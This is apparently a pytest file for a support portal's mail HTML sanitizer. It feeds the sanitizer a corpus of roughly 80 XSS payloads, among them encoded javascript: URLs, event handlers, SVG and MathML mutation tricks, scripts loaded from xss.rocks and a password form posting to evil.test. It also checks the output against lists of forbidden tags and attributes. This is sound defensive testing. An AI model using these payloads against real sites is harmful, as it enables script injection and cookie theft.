"""The mail HTML sanitizer against a corpus of hostile snippets, and what it keeps."""

from __future__ import annotations

import re

import pytest

from portal.sanitize import REMOTE_IMAGE_PLACEHOLDER, clean_mail_html, text_to_html
from tests.portal.story import elements

SCOPED = "/tickets/abcdefghijklmnop/attachments/qrstuvwxyz234567"
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TR></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" '
    'AllowScriptAccess="always">',
    '<form action="https://evil.test"><input name="p" type="password">'
    '<button formaction="javascript:alert(1)">Go</button></form>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x0D;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<a href="#" style="position:fixed;top:0;left:0;width:100%;height:100%">clickjack</a>',
    '<div id="csrf_token" class="button primary">clobber</div><img name="cookie" src="cid:x">',
    '<img src="https://tracker.evil.test/p.gif"><img src="//evil.test/proto-relative.gif">',
    '<img srcset="https://evil.test/a.png 1x">',
    "<button onclick=alert(1)>x</button><select onfocus=alert(1) autofocus><option>o</select>",
    "<textarea onfocus=alert(1) autofocus>t</textarea><keygen autofocus onfocus=alert(1)>",
    '<img src="x:gif" onerror="window[\'al\\u0065rt\'](0)"></img>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<a href="https://ok.test" target="_self" rel="opener">ok</a>',
    '<div class="gmail_quote">On Tue <script>alert("quoted")</script><img src=x onerror=alert(2)></div>',
    '<blockquote type="cite"><a href="javascript:alert(\'cite\')">old</a></blockquote>',
    '<a href="/logout">relative</a><img src="/api/v1/tickets">',
]
FORBIDDEN_TAGS = frozenset(
    """script style iframe frame frameset object embed form input button select textarea meta base link
    svg math video audio source template noscript xmp isindex keygen marquee applet title body""".split()
)
FORBIDDEN_ATTRIBUTES = frozenset(
    {"style", "id", "name", "class", "srcset", "background", "formaction", "dynsrc", "lowsrc"}
)
RASTER_DATA = re.compile(r"data:image/(png|gif|jpeg|jpg|webp);base64,", re.I)
CONTROL = re.compile(r"[\x00-\x20]")


def problems(html: str) -> list[str]:
    """Everything in sanitized `html` that could run, load from elsewhere, or dress up as the portal."""
    found = ["raw <script"] if "<script" in html.lower() else []
    for tag, attributes in elements(html):
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            squeezed = CONTROL.sub("", value).lower()
            if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES:
                found.append(f"{tag}[{name}]")
            if any(bad in squeezed for bad in ("javascript:", "vbscript:", "expression(")):
                found.append(f"{tag}[{name}]={value!r}")
            if squeezed.startswith("data:") and not (tag == "img" and name == "src" and RASTER_DATA.match(squeezed)):
                found.append(f"{tag}[{name}] data URL")
        if tag == "img" and "src" in attributes:
            src = attributes["src"]
            if not (src == REMOTE_IMAGE_PLACEHOLDER or src.startswith("/tickets/") or RASTER_DATA.match(src)):
                found.append(f"img loads {src!r}")
        if tag == "a" and "href" in attributes:
            if not attributes["href"].startswith(("https://", "http://", "mailto:")):
                found.append(f"a[href]={attributes['href']!r}")
            if attributes.get("target") != "_blank" or "noopener" not in attributes.get("rel", ""):
                found.append("a without target=_blank rel=noopener")
    return found


def test_the_corpus_is_large() -> None:
    assert len(HOSTILE) >= 50


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_html_comes_out_harmless(snippet: str) -> None:
    clean = clean_mail_html(snippet, inline_images={"x": SCOPED})
    assert problems(clean.body) == [] and problems(clean.quoted) == []


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_html_stays_harmless_with_remote_pictures_allowed(snippet: str) -> None:
    clean = clean_mail_html(snippet, show_remote_images=True)
    allowed = [
        p for p in problems(clean.body + clean.quoted) if not p.startswith("img loads 'https:") and "//evil" not in p
    ]
    assert allowed == []


def test_ordinary_formatting_links_and_tables_survive() -> None:
    html = (
        '<div dir="ltr"><p>Hello <b>team</b>, <i>see</i> <a href="https://example.com/a?b=1">the manual</a> '
        'or <a href="mailto:help@example.com">mail us</a>.</p><ul><li>one</li></ul>'
        '<table><tr><td colspan="2" align="right">cell</td></tr></table></div>'
    )
    body = clean_mail_html(html).body
    assert "<b>team</b>" in body and "<i>see</i>" in body and "<li>one</li>" in body
    assert '<td colspan="2" align="right">cell</td>' in body
    assert {a["href"] for tag, a in elements(body) if tag == "a"} == {
        "https://example.com/a?b=1",
        "mailto:help@example.com",
    }


def test_inline_images_point_at_their_scoped_attachment_url() -> None:
    html = '<img src="cid:Logo123@customer.test" alt="logo"><img src="cid:unknown@customer.test">'
    clean = clean_mail_html(html, inline_images={"logo123@customer.test": SCOPED})
    assert [a.get("src") for _, a in elements(clean.body)] == [SCOPED, None]
    assert clean.inline_used == {"logo123@customer.test"}


def test_remote_pictures_are_blocked_and_counted_until_allowed() -> None:
    html = '<p>Hi</p><img src="https://tracker.evil.test/p.gif" alt="pixel"><img src="data:image/png;base64,iVBORw0K">'
    blocked, shown = clean_mail_html(html), clean_mail_html(html, show_remote_images=True)
    assert blocked.remote_images == shown.remote_images == 1
    assert [a["src"] for _, a in elements(blocked.body) if "src" in a] == [
        REMOTE_IMAGE_PLACEHOLDER,
        "data:image/png;base64,iVBORw0K",
    ]
    assert 'src="https://tracker.evil.test/p.gif"' in shown.body and 'referrerpolicy="no-referrer"' in shown.body


def test_quoted_history_comes_back_separately() -> None:
    html = (
        '<div>Thanks, that worked.</div><div class="gmail_quote">On Tue, Support wrote:'
        "<blockquote>Try again</blockquote></div>"
    )
    clean = clean_mail_html(html)
    assert "Thanks, that worked." in clean.body and "Try again" not in clean.body
    assert "Try again" in clean.quoted


def test_a_message_that_is_all_quote_is_shown_rather_than_left_empty() -> None:
    clean = clean_mail_html('<blockquote type="cite">Only the old text</blockquote>')
    assert "Only the old text" in clean.body and clean.quoted == ""


def test_plain_text_is_escaped_and_its_web_addresses_linked() -> None:
    html = text_to_html('See https://example.com/x?a=1&b=2. <script>alert(1)</script> "javascript:alert(1)"')
    assert "<script" not in html and "&lt;script&gt;" in html
    [(tag, attributes)] = elements(html)
    assert tag == "a" and attributes["href"] == "https://example.com/x?a=1&b=2"
    assert problems(html) == []
